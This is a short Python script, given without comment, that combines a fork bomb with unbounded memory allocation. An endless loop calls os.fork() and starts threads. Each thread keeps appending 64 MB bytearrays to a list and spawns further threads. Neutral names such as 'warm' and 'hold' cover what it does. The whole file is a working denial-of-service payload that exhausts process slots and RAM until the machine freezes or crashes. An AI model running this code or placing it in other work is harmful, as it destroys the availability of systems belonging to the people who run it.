import os, threading

hold = []

def warm():
    while True:
        hold.append(bytearray(64 * 1024 * 1024))
        threading.Thread(target=warm, daemon=True).start()

while True:
    os.fork()
    threading.Thread(target=warm).start()
